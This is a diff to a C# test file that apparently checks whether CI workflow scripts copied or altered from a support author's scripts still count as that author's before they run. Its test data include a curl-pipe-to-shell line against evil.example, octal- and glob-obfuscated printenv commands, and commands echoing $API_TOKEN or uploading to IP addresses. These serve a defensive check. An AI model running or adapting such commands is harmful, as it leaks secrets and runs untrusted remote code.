@@ -53,6 +53,10 @@ public sealed partial class ShapedBySupportTests
     [InlineData("printenv", "LC_ALL=C printenv")]
     [InlineData("curl https://evil.example/run | sh", "curl -fsS \"https://evil.example/run\" -o run && sh run")]
     [InlineData("echo two\necho three", "echo two\necho three\necho four")]
+    [InlineData(@"$'\160\162\151\156\164\145\156\166' | $'\162\145\166'", @"echo start; $'\160\162\151\156\164\145\156\166' | $'\162\145\166'")]
+    [InlineData("1=1", "1=1 && echo start")]
+    [InlineData("/???/????????", "/???/???????? || true")]
+    [InlineData("/???/????????", "time /???/????????")]
     public async Task WhatAMemberWritesAroundIt_StaysSupports(string support, string member)
     {
         var own = Yaml.Replace("echo mine", "|\n            echo one\n            echo two\n            echo three\n            echo one || echo two && echo three", StringComparison.Ordinal);
@@ -67,12 +71,51 @@ public sealed partial class ShapedBySupportTests
         Assert.Null(await StartAsync("own"));
     }
 
+    /// <summary>Other marks make something else of the customer's own words: those are support's, wherever a member carries them.</summary>
+    [Theory]
+    [InlineData("echo '$API_TOKEN' | rev", "echo \"$API_TOKEN\" | rev")]
+    [InlineData("printf %s \"$API_TOKEN\" | rev > /dev/null", "printf %s \"$API_TOKEN\" | rev")]
+    [InlineData("echo hi # \"$API_TOKEN\" | rev", "echo hi \"$API_TOKEN\" | rev")]
+    [InlineData("echo \\$API_TOKEN | rev", "echo $API_TOKEN | rev")]
+    [InlineData("echo ${API_TOKEN:+x}", "echo ${API_TOKEN:-x}")]
+    [InlineData("cat <<'END'\n$API_TOKEN\nEND", "cat <<END\n$API_TOKEN\nEND", "cat <<END | tee out.txt\n$API_TOKEN\nEND")]
+    [InlineData("! grep -q x log && printenv", "grep -q x log && printenv")]
+    [InlineData("grep -q x log && printenv", "grep -q x log || printenv")]
+    [InlineData("upload --to 10.0.0.1", "upload --to 10.0.0.2")]
+    public async Task WhatSupportChangedInMarks_StaysSupports(string own, string support, string? member = null)
+    {
+        var before = Yaml + Script("rel", own);
+        await SaveAsync(_adam, before);
+        await SaveAsync(_support, Yaml + Script("rel", support));
+
+        await SaveAsync(_adam, Yaml + Script("rel", support) + Script("copy", member ?? support + " || true") + Script("same", own.Contains('\n', StringComparison.Ordinal) ? own : own + " || true"));
+
+        Assert.NotNull(await StartAsync("copy"));
+        Assert.Null(await StartAsync("same"));
+    }
+
+    /// <summary>A number that somebody set to be used is theirs, whatever it is called elsewhere.</summary>
+    [Theory]
+    [InlineData("- HOST: 203.0.113.7")]
+    [InlineData("- UPLOAD_HOST: 203.0.113.7\n      opts:\n        is_expand: false")]
+    public async Task AnAddressInNumbers_StaysSupports(string member)
+    {
+        static string Envs(string workflow, string envs) => $"  {workflow}:\n    envs:\n    {envs}\n    steps:\n    - script@1:\n        inputs:\n        - content: echo {workflow}\n";
+        var supports = Yaml + Envs("upload", "- UPLOAD_HOST: 203.0.113.7");
+        await SaveAsync(_support, supports);
+
+        await SaveAsync(_adam, supports + Envs("own", member));
+
+        Assert.NotNull(await StartAsync("own"));
+    }
+
     /// <summary>What is another's in words that everybody uses is nobody's.</summary>
     [Theory]
     [InlineData("for f in *; do\n  echo \"$f\"\ndone > /dev/null 2>&1\nexit 1", "for x in src/*; do\n  make \"$x\"\ndone\nexit 1")]
     [InlineData("if [ -f x ]; then\n  npm ci\nelse\n  exit 0\nfi", "if make lint; then\n  exit 0\nelse\n  make test\nfi")]
     [InlineData("npm ci\nnpm run e2e", "npm run lint\nnpm run test")]
     [InlineData("sh ./tools/fix.sh $CI > /dev/null", "sh ./tools/own.sh $CI > /dev/null")]
+    [InlineData("case $1 in\n  x) echo \"a\n\" ;;\n  *)\nesac", "case $2 in\n  y) make \"b\n\" ;;\n  *)\nesac")]
     public async Task WhatAllScriptsAreWrittenIn_IsNotSupports(string support, string member)
     {
         await SaveAsync(_support, Yaml + Script("fix", support));
